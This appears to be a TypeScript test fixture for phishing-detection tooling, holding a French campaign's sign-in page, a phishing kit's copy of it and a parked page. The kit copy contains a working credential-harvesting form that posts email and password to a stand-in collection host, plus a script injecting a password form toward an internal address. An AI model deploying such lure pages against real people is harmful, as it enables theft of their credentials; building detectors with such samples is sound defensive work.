/**
 * Pages for web enrichment tests, written for them: a brand's sign-in page, a phishing kit's copy
 * of it (same words and layout, a form posting elsewhere, an extra field), and an unrelated parked
 * page. Scripts inside them must never be run or read as markup.
 */
export const BRAND_LOGIN = `<!doctype html>
<html lang="fr"><head><meta charset="utf-8"><title>En Marche ! – Connexion</title>
<link rel="icon" href="/static/icon.png"></head>
<body><header><nav><a href="/">Accueil</a><a href="/dons">Faire un don</a></nav></header>
<main><h1>Connexion à votre espace adhérent</h1>
<form method="post" action="/login">
<label>Adresse e-mail</label><input type="email" name="email">
<label>Mot de passe</label><input type="password" name="password">
<button type="submit">Se connecter</button></form>
<p>Mot de passe oublié ? Recevez un lien de réinitialisation par e-mail.</p>
<p>Pas encore adhérent ? Rejoignez le mouvement et participez à la campagne présidentielle.</p>
</main><footer><p>© En Marche ! 2017 – Mentions légales – Politique de confidentialité</p></footer></body></html>`;

export const KIT_LOGIN = `<!doctype html>
<html lang="fr"><head><meta charset="utf-8"><title>En Marche ! &ndash; Connexion &amp; s&eacute;curit&eacute;</title>
<link rel="shortcut icon" href="/assets/fav.png"></head>
<body><header><nav><a href="/">Accueil</a><a href="/dons">Faire un don</a></nav></header>
<main><h1>Connexion à votre espace adhérent</h1>
<script>document.write('<form action="http://10.0.0.1/"><input type="password"></form>')</script>
<!-- <form action="http://commented.out/"> -->
<form method="post" action="//collect.lure-drop.test/gate.php?u=1">
<label>Adresse e-mail</label><input type="email" name="email">
<label>Mot de passe</label><input type='password' name="pass">
<input type="hidden" name="victim" value="1">
<button type="submit">Se connecter</button></form>
<p>Mot de passe oublié ? Recevez un lien de réinitialisation par e-mail.</p>
<p>Pas encore adhérent ? Rejoignez le mouvement et participez à la campagne présidentielle.</p>
</main><footer><p>© En Marche ! 2017 – Mentions légales – Politique de confidentialité</p></footer></body></html>`;

export const PARKED = `<html><head><title>lure.test is for sale</title></head><body>
<div class="park"><h2>This domain may be for sale</h2><p>Buy this domain today. Related searches: cheap flights, car insurance, credit cards.</p></div>
</body></html>`;

/** 16 bytes standing in for the brand's icon (the kit serves the same bytes). */
export const BRAND_ICON = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
